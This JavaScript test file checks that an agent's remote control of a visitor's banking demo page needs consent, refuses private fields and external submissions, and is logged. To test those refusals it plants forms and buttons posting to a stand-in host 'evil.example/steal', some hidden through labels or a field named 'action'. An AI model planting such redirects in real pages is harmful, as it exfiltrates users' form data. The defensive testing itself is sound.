// Remote control with its own consent, and pages the agent sends the visitor to.
// The agent clicks, types and chooses on the mirror; the visitor's page does it,
// and the page's own code sees it (the demo's transfer form keeps its state from
// input and change events, like a React form). Private fields are refused, Esc
// gives control back, and every step is in the conversation's history.

import { test } from "node:test";
import assert from "node:assert/strict";
import { assertNoProblems } from "./fixture.mjs";
import { waitFor } from "./harness.mjs";
import { startChat, useShareStack } from "./share-harness.mjs";

const stack = useShareStack();
const widget = (page, id) => page.locator(`[data-sightline] [data-testid=${id}]`);

/** Where, in the agent's window, an element of the mirrored page is drawn. */
function inMirror(agent, selector) {
  return agent.evaluate((sel) => {
    const frame = /** @type {HTMLIFrameElement | null} */ (document.querySelector("[data-testid=cobrowse-mirror] iframe"));
    const el = frame?.contentDocument?.querySelector(sel);
    if (!frame || !el) return null;
    const outer = frame.getBoundingClientRect();
    const scale = outer.width / (frame.offsetWidth || outer.width);
    const r = el.getBoundingClientRect();
    return { x: outer.x + (r.x + r.width / 2) * scale, y: outer.y + (r.y + r.height / 2) * scale };
  }, selector);
}

async function clickInMirror(agent, selector) {
  const at = await inMirror(agent, selector);
  assert.ok(at, `${selector} in the mirror`);
  await agent.mouse.click(at.x, at.y);
}

async function coBrowse(path, text) {
  const visitor = await stack.page("visitor");
  await visitor.setViewportSize({ width: 1180, height: 860 });
  const { agent } = await startChat(stack, { visitorUrl: stack.base + path, text, visitorPage: visitor });
  await agent.locator("[data-testid=cobrowse-invite]").click();
  await agent.locator("[data-testid=dialog-submit]").click();
  await widget(visitor, "cobrowse-allow").click();
  await waitFor(async () => (await agent.locator("[data-testid=cobrowse-mirror]").getAttribute("data-live")) === "true", "mirror live");
  await waitFor(async () => (await agent.locator("[data-testid=cobrowse-state]").getAttribute("data-state")) === "active", "co-browsing active");
  return { agent, visitor };
}

/** Asks for control and the visitor gives it. */
async function takeControl(agent, visitor) {
  await agent.locator("[data-testid=control-request]").click();
  await agent.locator("[data-testid=dialog-submit]").click();
  await waitFor(async () => (await agent.locator("[data-testid=control-state]").getAttribute("data-state")) === "asked", "asked for control");
  // Co-browsing alone gave nothing: the mirror does not act yet, and there is
  // no stream to send control on.
  assert.notEqual(await agent.locator("[data-testid=cobrowse-mirror]").getAttribute("data-control"), "true");
  const conversation = await agent.evaluate(() => window.__sightlineAgentCobrowse.selected());
  assert.equal(await agent.evaluate((c) => window.__sightlineAgentCobrowse.control.send(c, [{ kind: "key", key: "Tab" }]), conversation), false, "nothing can be sent before the visitor's answer");
  await widget(visitor, "control-allow").click();
  await waitFor(async () => (await agent.locator("[data-testid=cobrowse-mirror]").getAttribute("data-control")) === "true", "the mirror passes input on");
  await widget(visitor, "control-indicator").waitFor({ state: "visible" });
  assert.match(await widget(visitor, "control-indicator").textContent(), /is controlling this page/);
  assert.match(await widget(visitor, "control-revoke").textContent(), /Take back control \(Esc\)/);
}

const activeId = (visitor) => visitor.evaluate(() => document.activeElement?.id ?? null);

test("remote control fills the transfer form and submits it, the page's own code sees it, private fields are refused, and history shows what was done", { timeout: 150000 }, async () => {
  const { agent, visitor } = await coBrowse("/demo/transfer", "help me with the transfer");
  // A file picker and a download on the page: the agent may not use them.
  await visitor.evaluate(() => {
    const file = document.createElement("input");
    file.type = "file";
    file.id = "attach";
    const dl = document.createElement("a");
    dl.id = "statement";
    dl.href = "/demo/statement.pdf";
    dl.download = "statement.pdf";
    dl.textContent = "Download statement";
    // Buttons that would send the form elsewhere, and a control whose text is partly private.
    const away = document.createElement("button");
    away.id = "away";
    away.type = "submit";
    away.setAttribute("formaction", "https://evil.example/steal");
    away.textContent = "Pay elsewhere";
    const popup = document.createElement("button");
    popup.id = "popup";
    popup.type = "submit";
    popup.setAttribute("formtarget", "_blank");
    popup.textContent = "Pay in a new window";
    document.querySelector("#transfer .actions").append(away, popup);
    const balance = document.createElement("div");
    balance.id = "balance";
    balance.setAttribute("role", "button");
    balance.style.padding = "12px";
    balance.innerHTML = 'Balance <span data-sightline-private>SECRET 9999</span>';
    balance.addEventListener("click", () => (balance.dataset.clicked = "1"));
    document.querySelector(".page-head .container").append(file, dl, balance);
    document.querySelector("#transfer").addEventListener("submit", () => (window.__picked += 100));
  });
  await waitFor(async () => (await inMirror(agent, "#statement")) !== null, "the additions in the mirror");
  // The visitor fills in what only they may: the IBAN and their PIN.
  await visitor.locator("#iban").fill("DE89 3704 0044 0532 0130 00");
  await visitor.locator("#pin").fill("123456");
  await takeControl(agent, visitor);

  const toast = async () => (await agent.locator("[data-testid=toast]").textContent()) ?? "";
  await visitor.evaluate(() => {
    window.__picked = 0;
    document.querySelector("#attach").addEventListener("click", () => window.__picked++);
    document.querySelector("#statement").addEventListener("click", () => window.__picked++);
  });
  await clickInMirror(agent, "#attach");
  await waitFor(async () => /Choosing files is left to the visitor/.test(await toast()), "the agent told files are the visitor's");
  await clickInMirror(agent, "#statement");
  await waitFor(async () => /would leave the page/.test(await toast()), "the agent told a download leaves the page");
  assert.equal(await visitor.evaluate(() => window.__picked), 0, "neither was clicked on the visitor's page");
  // A control whose text is partly private: clicked, but named without it.
  await clickInMirror(agent, "#balance");
  await waitFor(async () => (await visitor.locator("#balance").getAttribute("data-clicked")) === "1", "the balance control clicked");

  await clickInMirror(agent, "#payee");
  await waitFor(async () => (await activeId(visitor)) === "payee", "the payee field focused on the visitor's page");
  await agent.keyboard.type("Alex Johnson");
  await waitFor(async () => (await visitor.locator("#payee").inputValue()) === "Alex Johnson", "the name typed on the visitor's page");
  await clickInMirror(agent, "#amount");
  await waitFor(async () => (await activeId(visitor)) === "amount", "the amount field focused");
  await agent.keyboard.type("125.5O");
  await agent.keyboard.press("Backspace");
  await agent.keyboard.type("0");
  await waitFor(async () => (await visitor.locator("#amount").inputValue()) === "125.50", "the amount typed, with a correction");

  // A list box: the console offers its options.
  await clickInMirror(agent, "#when");
  const options = agent.locator("[data-testid=control-options]");
  await options.waitFor({ state: "visible" });
  await options.getByRole("option", { name: "Tomorrow" }).click();
  await waitFor(async () => (await visitor.locator("#when").inputValue()) === "Tomorrow", "the option chosen on the visitor's page");

  // The private IBAN field: refused, and the agent is told why.
  // (Blocked whole, it is an empty box of the same size in the mirror.)
  await clickInMirror(agent, ".field:has(> label[for=iban]) > :last-child");
  await waitFor(async () => /private/i.test((await agent.locator("[data-testid=toast]").textContent()) ?? ""), "the agent told the field is private");
  assert.notEqual(await activeId(visitor), "iban", "the private field was not touched");
  assert.equal(await visitor.locator("#iban").inputValue(), "DE89 3704 0044 0532 0130 00");

  // (Checked below, once the agent has scrolled down to the buttons.)
  // The button is below the fold of the visitor's window: the agent scrolls
  // their page with the wheel over the mirror.
  const frameBox = await agent.locator("[data-testid=cobrowse-mirror] iframe").boundingBox();
  await agent.mouse.move(frameBox.x + frameBox.width / 2, frameBox.y + frameBox.height / 2);
  await agent.mouse.wheel(0, 600);
  await waitFor(async () => (await visitor.evaluate(() => window.scrollY)) > 0, "the visitor's page scrolled");
  await waitFor(async () => {
    const at = await inMirror(agent, "#popup");
    const box = await agent.locator("[data-testid=cobrowse-mirror] iframe").boundingBox();
    return !!at && at.y < box.y + box.height - 4;
  }, "the button in view in the mirror");
  // Buttons that would send the form to another site or a new window: refused.
  for (const id of ["#away", "#popup"]) {
    await agent.evaluate(() => {
      const t = document.querySelector("[data-testid=toast]");
      if (t) t.textContent = "";
    });
    await clickInMirror(agent, id);
    await waitFor(async () => /would leave the page/.test(await toast()), `${id} refused`);
  }
  assert.equal(await visitor.evaluate(() => window.__picked), 0, "the form was not sent anywhere");
  await clickInMirror(agent, "#transfer button.btn-primary");
  const done = visitor.locator("#done");
  await done.waitFor({ state: "visible" });
  // What the page's handlers saw (their own state, from input and change events).
  assert.equal(await done.textContent(), "Transfer of € 125.50 to Alex Johnson (Tomorrow) prepared. Confirm it in the Northwind app to send it.");

  // The audit, in the agent's transcript: what was done, never what was typed.
  const rows = agent.locator("[data-testid=system][data-kind=control]");
  const expected = [/typed into “Recipient name”/, /typed into “Amount”/, /chose an option in “Date”/, /refused to let .* click a private field/, /submitted the form with “Continue”/];
  await waitFor(async () => {
    const texts = await rows.allTextContents();
    return expected.every((re) => texts.some((t) => re.test(t)));
  }, "every remote action in the transcript");
  const texts = await rows.allTextContents();
  assert.ok(!texts.some((t) => /Alex Johnson|125|DE89|SECRET/.test(t)), `no typed or private text in the audit: ${JSON.stringify(texts)}`);
  const grants = await agent.locator("[data-testid=system][data-kind=grant]").allTextContents();
  assert.ok(grants.some((t) => /asked for remote control/.test(t)) && grants.some((t) => /allowed remote control/.test(t)), JSON.stringify(grants));

  // And in history, once the conversation is over.
  await agent.locator("[data-testid=close-conversation]").click();
  await agent.locator("[data-testid=nav-history]").click();
  await agent.locator("[data-testid=history-item]").first().click();
  await agent.locator("[data-testid=history-transcript]").waitFor({ state: "visible" });
  const history = await agent.locator("[data-testid=history-transcript] [data-testid=system]").allTextContents();
  for (const re of [...expected, /asked for remote control/, /ended remote control|stopped remote control/]) {
    assert.ok(history.some((t) => re.test(t)), `${re} in history: ${JSON.stringify(history)}`);
  }
  assertNoProblems(stack);
});

test("Esc gives control back at once: the agent's later input does nothing and the server refuses the stream; the visitor's own input comes first", { timeout: 150000 }, async () => {
  const { agent, visitor } = await coBrowse("/demo/transfer", "take over please");
  await takeControl(agent, visitor);
  await clickInMirror(agent, "#reference");
  await waitFor(async () => (await activeId(visitor)) === "reference", "the reference field focused");
  await agent.keyboard.type("Rent");
  await waitFor(async () => (await visitor.locator("#reference").inputValue()) === "Rent", "typed");

  // The visitor types on the page: for a moment the agent's input is refused.
  // (A slow machine may let the moment pass before the agent's click arrives:
  // then the visitor types again.)
  const toldFirst = async () => /visitor is using the page/i.test((await agent.locator("[data-testid=toast]").textContent()) ?? "");
  for (let round = 0; round < 5 && !(await toldFirst()); round++) {
    await visitor.locator("#payee").click();
    await visitor.keyboard.type("S");
    await clickInMirror(agent, "#amount");
    await waitFor(async () => (await toldFirst()) || (await activeId(visitor)) === "amount", "the agent's click answered");
  }
  assert.ok(await toldFirst(), "the agent was told the visitor comes first");
  assert.equal(await activeId(visitor), "payee", "the visitor kept their field");

  const conversation = await agent.evaluate(() => window.__sightlineAgentCobrowse.selected());
  const stream = await agent.evaluate((c) => window.__sightlineAgentCobrowse.control.live.get(c)?.stream ?? null, conversation);
  assert.ok(stream, "a control stream was open");
  await visitor.keyboard.press("Escape");
  await widget(visitor, "control-indicator").waitFor({ state: "detached" });
  await widget(visitor, "cobrowse-indicator").waitFor({ state: "visible" });
  // The agent's side ends within a round trip: the relay closed its socket.
  await waitFor(async () => (await agent.locator("[data-testid=cobrowse-mirror]").getAttribute("data-control")) !== "true", "the mirror no longer passes input on");
  await waitFor(async () => (await agent.evaluate((c) => window.__sightlineAgentCobrowse.control.live.has(c), conversation)) === false, "the control stream closed");
  // An input sent now goes nowhere, and a fresh token for the stream is refused.
  assert.equal(await agent.evaluate((c) => window.__sightlineAgentCobrowse.control.send(c, [{ kind: "text", text: "XYZ" }]), conversation), false);
  await clickInMirror(agent, "#amount");
  await agent.keyboard.type("999");
  await agent.evaluate((s) => window.__sightlineAgentCobrowse.cobrowse.session.send({ type: "stream_join", stream: s }), stream);
  await waitFor(async () => /no such live stream/i.test((await agent.locator("[data-testid=notice], [data-testid=toast]").allTextContents()).join(" ")), "the server refused the old control stream");
  assert.equal(await visitor.locator("#amount").inputValue(), "", "nothing typed after Esc");
  assert.equal(await visitor.locator("#reference").inputValue(), "Rent");
  await waitFor(async () => (await agent.locator("[data-testid=system][data-kind=grant]").allTextContents()).some((t) => /stopped remote control/.test(t)), "the revocation in the transcript");
  assertNoProblems(stack);
});

test("the agent sends the visitor to another page: with co-browsing the browser goes there and the mirror follows; without it a link in the chat; other sites are refused", { timeout: 150000 }, async () => {
  const { agent, visitor } = await coBrowse("/demo/transfer", "where are my accounts?");
  await agent.locator("[data-testid=push-page]").click();
  await agent.locator("[data-testid=dialog-url]").fill(stack.base + "/demo/account");
  await agent.locator("[data-testid=dialog-submit]").click();
  await visitor.waitForURL(/\/demo\/account$/);
  await waitFor(async () => /\/demo\/account$/.test((await agent.locator("[data-testid=cobrowse-url]").textContent()) ?? ""), "the mirror followed");
  await waitFor(async () => (await agent.locator("[data-testid=system][data-kind=page_pushed]").allTextContents()).some((t) => /sent .* to .*\/demo\/account/.test(t)), "the push in the transcript");

  // Another site: the server refuses it.
  await agent.locator("[data-testid=push-page]").click();
  await agent.locator("[data-testid=dialog-url]").fill("https://evil.example/login");
  await agent.locator("[data-testid=dialog-submit]").click();
  await waitFor(async () => /is not the visitor's site/.test((await agent.locator("[data-testid=notice], [data-testid=toast]").allTextContents()).join(" ")), "the agent told the address is not the site's");

  // Co-browsing ends: a push becomes a link the visitor may follow.
  await widget(visitor, "cobrowse-stop").click();
  await waitFor(async () => (await agent.locator("[data-testid=cobrowse-panel]").isHidden()), "co-browsing over");
  await agent.locator("[data-testid=push-page]").click();
  await agent.locator("[data-testid=dialog-url]").fill(stack.base + "/demo/transfer");
  await agent.locator("[data-testid=dialog-submit]").click();
  const card = widget(visitor, "pushed-page").last();
  await card.waitFor({ state: "visible" });
  await waitFor(async () => (await card.locator("a").getAttribute("href")) === stack.base + "/demo/transfer", "the link card");
  assert.match(visitor.url(), /\/demo\/account$/, "the visitor stayed where they were");
  assert.equal(await widget(visitor, "pushed-page").count(), 2, "the refused push never reached the visitor");
  await card.locator("a").click();
  await visitor.waitForURL(/\/demo\/transfer$/);
  assertNoProblems(stack);
});

test("control taken back while the chat connection is down stays taken back: the revocation goes out on reconnect and control never resumes", { timeout: 150000 }, async () => {
  const { agent, visitor } = await coBrowse("/demo/transfer", "blip then esc");
  await takeControl(agent, visitor);
  // The chat socket drops at the moment the visitor presses Esc.
  await visitor.evaluate(() => /** @type {any} */ (window).__sightlineControl.session.conn.socket.close());
  await visitor.keyboard.press("Escape");
  await widget(visitor, "control-indicator").waitFor({ state: "detached" });
  // After the reconnect the server hears it: the agent's transcript and mirror say so.
  await waitFor(async () => (await agent.locator("[data-testid=system][data-kind=grant]").allTextContents()).some((t) => /stopped remote control/.test(t)), "the revocation reached the server", 30000);
  await waitFor(async () => (await agent.locator("[data-testid=cobrowse-mirror]").getAttribute("data-control")) !== "true", "the agent's mirror passes nothing on");
  await widget(visitor, "cobrowse-indicator").waitFor({ state: "visible" });
  assert.equal(await widget(visitor, "control-indicator").count(), 0, "control did not come back on the visitor's page");
  assertNoProblems(stack);
});

test("forms that would leave the page are refused however they are reached: a button inside a label, a field named action, Enter through the default button", { timeout: 150000 }, async () => {
  const { agent, visitor } = await coBrowse("/demo/transfer", "tricky forms");
  await visitor.evaluate(() => {
    const w = /** @type {any} */ (window);
    w.__submitted = [];
    const box = document.createElement("div");
    box.innerHTML = `
      <form id="agree-form" action="/demo/transfer"><label id="agree"><input type="checkbox" id="agree-box"> I agree <button id="label-btn" formaction="https://evil.example/steal">Send</button></label></form>
      <form id="shadowed" action="https://evil.example/steal"><input type="hidden" name="action" value="x"><button id="shadowed-btn">Go</button></form>
      <form id="enter-form" action="https://evil.example/steal"><input id="enter-field" data-sightline-visible><button id="enter-default" formaction="/demo/transfer">Search</button></form>`;
    document.querySelector(".page-head .container").append(box);
    for (const f of Array.from(document.forms)) {
      f.addEventListener("submit", (ev) => {
        ev.preventDefault();
        w.__submitted.push(`${f.id}:${/** @type {any} */ (ev).submitter?.id ?? ""}`);
      });
    }
  });
  await waitFor(async () => (await inMirror(agent, "#enter-field")) !== null, "the forms in the mirror");
  await takeControl(agent, visitor);
  const toast = async () => (await agent.locator("[data-testid=toast]").textContent()) ?? "";
  for (const id of ["#label-btn", "#shadowed-btn"]) {
    await agent.evaluate(() => {
      const t = document.querySelector("[data-testid=toast]");
      if (t) t.textContent = "";
    });
    await clickInMirror(agent, id);
    await waitFor(async () => /would leave the page/.test(await toast()), `${id} refused`);
  }
  // Enter in a field: the form goes through its default button, whose own address is this site's.
  await clickInMirror(agent, "#enter-field");
  await waitFor(async () => (await activeId(visitor)) === "enter-field", "the field focused");
  await agent.keyboard.type("loans");
  await agent.keyboard.press("Enter");
  await waitFor(async () => (await visitor.evaluate(() => /** @type {any} */ (window).__submitted.length)) === 1, "one submission");
  assert.deepEqual(await visitor.evaluate(() => /** @type {any} */ (window).__submitted), ["enter-form:enter-default"], "only the one through the default button, none of the refused ones");
  assertNoProblems(stack);
});
